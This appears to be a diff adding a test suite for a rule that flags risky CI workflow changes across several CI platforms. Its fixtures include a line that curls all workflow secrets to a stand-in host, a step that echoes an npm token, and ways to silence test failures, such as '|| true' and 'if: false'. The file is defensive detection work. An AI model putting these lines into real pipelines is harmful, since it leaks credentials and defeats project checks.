@@ -1,0 +1,164 @@
+import rule from '../../../src/core/rules/diff/ci-workflow-changed';
+import { added, deleted, modified, renamed } from '../../../src/core/rules/support/changes';
+import { diffRuleTester } from '../../ruleTester';
+
+const wf = (steps: string, head = 'on: [push, pull_request]\n'): string =>
+  `${head}jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
+const base = '      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm test\n';
+
+diffRuleTester(rule, {
+  valid: [
+    { name: 'not a CI file', change: modified('src/ci.yml', 'a: 1\n', 'a: 2\n') },
+    { name: 'issue template', change: modified('.github/ISSUE_TEMPLATE/bug.yml', 'name: Bug\n', 'name: Bug report\n') },
+    { name: 'dependabot config is not CI', change: modified('.github/dependabot.yml', 'version: 2\n', 'version: 2\n# x\n') },
+    { name: 'unchanged workflow', change: modified('.github/workflows/ci.yml', wf(base), wf(base)) },
+  ],
+  invalid: [
+    {
+      name: 'any edit is medium',
+      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm ci', 'npm ci --prefer-offline'))),
+      errors: [{ messageId: 'edited', severity: 'medium', line: 7 }],
+    },
+    {
+      name: 'node version bump',
+      change: modified('.github/workflows/ci.yml', wf(base) + '        env: { NODE: 18 }\n', wf(base) + '        env: { NODE: 20 }\n'),
+      errors: [{ messageId: 'edited' }],
+    },
+    {
+      name: 'test command modified but kept',
+      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm test', 'npm run test -- --coverage'))),
+      errors: [{ messageId: 'edited' }],
+    },
+    {
+      name: 'test step removed',
+      change: modified('.github/workflows/ci.yml', wf(base), wf('      - uses: actions/checkout@v4\n      - run: npm ci\n')),
+      errors: [{ messageId: 'checkRemoved', severity: 'high', side: 'removed', line: 8 }],
+    },
+    {
+      name: 'non-check step removed',
+      change: modified('.github/workflows/ci.yml', wf(base), wf('      - uses: actions/checkout@v4\n      - run: npm test\n')),
+      errors: [{ messageId: 'stepRemoved', side: 'removed' }],
+    },
+    {
+      name: 'if: false',
+      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '        if: false\n')),
+      errors: [{ messageId: 'disabledStep', line: 9, severity: 'high' }],
+    },
+    {
+      name: 'if: ${{ false }}',
+      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '        if: ${{ false }}\n')),
+      errors: [{ messageId: 'disabledStep' }],
+    },
+    {
+      name: 'continue-on-error',
+      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '        continue-on-error: true\n')),
+      errors: [{ messageId: 'ignoresFailure', line: 9 }],
+    },
+    {
+      name: '|| true in run',
+      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm test', 'npm test || true'))),
+      errors: [{ messageId: 'swallowed', line: 8 }],
+    },
+    {
+      name: 'pull_request_target added',
+      change: modified('.github/workflows/ci.yml', wf(base), wf(base, 'on: [push, pull_request_target]\n')),
+      errors: [{ messageId: 'prTarget', line: 1 }],
+    },
+    {
+      name: 'permissions write-all',
+      change: modified('.github/workflows/ci.yml', wf(base), 'permissions: write-all\n' + wf(base)),
+      errors: [{ messageId: 'permissions', line: 1 }],
+    },
+    {
+      name: 'contents: write',
+      change: modified(
+        '.github/workflows/ci.yml',
+        'permissions:\n  contents: read\n' + wf(base),
+        'permissions:\n  contents: write\n' + wf(base),
+      ),
+      errors: [{ messageId: 'permissions', line: 2 }],
+    },
+    {
+      name: 'secret echoed',
+      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '      - run: echo ${{ secrets.NPM_TOKEN }} | base64\n')),
+      errors: [{ messageId: 'secretEcho' }],
+    },
+    {
+      name: 'secrets to curl',
+      change: modified(
+        '.github/workflows/ci.yml',
+        wf(base),
+        wf(base + "      - run: curl -d '${{ toJSON(secrets) }}' https://x.example\n"),
+      ),
+      errors: [{ messageId: 'secretEcho' }],
+    },
+    {
+      name: 'gitlab allow_failure',
+      change: modified('.gitlab-ci.yml', 'test:\n  script: npm test\n', 'test:\n  script: npm test\n  allow_failure: true\n'),
+      errors: [{ messageId: 'ignoresFailure' }],
+    },
+    {
+      name: 'azure continueOnError',
+      change: modified('azure-pipelines.yml', 'steps:\n- script: npm test\n', 'steps:\n- script: npm test\n  continueOnError: true\n'),
+      errors: [{ messageId: 'ignoresFailure' }],
+    },
+    {
+      name: 'buildkite soft_fail',
+      change: modified(
+        '.buildkite/pipeline.yml',
+        'steps:\n  - command: make test\n',
+        'steps:\n  - command: make test\n    soft_fail: true\n',
+      ),
+      errors: [{ messageId: 'ignoresFailure' }],
+    },
+    {
+      name: 'Jenkinsfile lint removed',
+      change: modified('Jenkinsfile', "stage('x') {\n  sh 'npm ci'\n  sh 'npx eslint .'\n}\n", "stage('x') {\n  sh 'npm ci'\n}\n"),
+      errors: [{ messageId: 'checkRemoved' }],
+    },
+    {
+      name: 'circleci pytest removed',
+      change: modified(
+        '.circleci/config.yml',
+        'jobs:\n  t:\n    steps:\n      - run: pip install .\n      - run: pytest\n',
+        'jobs:\n  t:\n    steps:\n      - run: pip install .\n',
+      ),
+      errors: [{ messageId: 'checkRemoved' }],
+    },
+    {
+      name: 'travis edit',
+      change: modified('.travis.yml', 'language: node_js\n', 'language: node_js\nnode_js: 20\n'),
+      errors: [{ messageId: 'edited' }],
+    },
+    {
+      name: 'bitbucket edit',
+      change: modified('bitbucket-pipelines.yml', 'image: node:18\n', 'image: node:20\n'),
+      errors: [{ messageId: 'edited' }],
+    },
+    {
+      name: 'composite action edited',
+      change: modified('.github/actions/setup/action.yml', 'runs:\n  using: composite\n', 'runs:\n  using: node20\n'),
+      errors: [{ messageId: 'edited' }],
+    },
+    {
+      name: 'new workflow',
+      change: added('.github/workflows/release.yaml', wf(base)),
+      errors: [{ messageId: 'added', severity: 'medium' }],
+    },
+    {
+      name: 'new workflow with pull_request_target',
+      change: added('.github/workflows/pr.yml', wf(base, 'on: pull_request_target\n')),
+      errors: [{ messageId: 'prTarget', severity: 'high' }],
+    },
+    {
+      name: 'workflow deleted',
+      change: deleted('.github/workflows/ci.yml', wf(base)),
+      errors: [{ messageId: 'deletedFile', severity: 'high', side: 'removed' }],
+    },
+    {
+      name: 'workflow moved out of workflows',
+      change: renamed('.github/workflows/ci.yml', '.github/ci.yml.disabled', wf(base), wf(base)),
+      errors: [{ messageId: 'deletedFile' }],
+    },
+  ],
+});
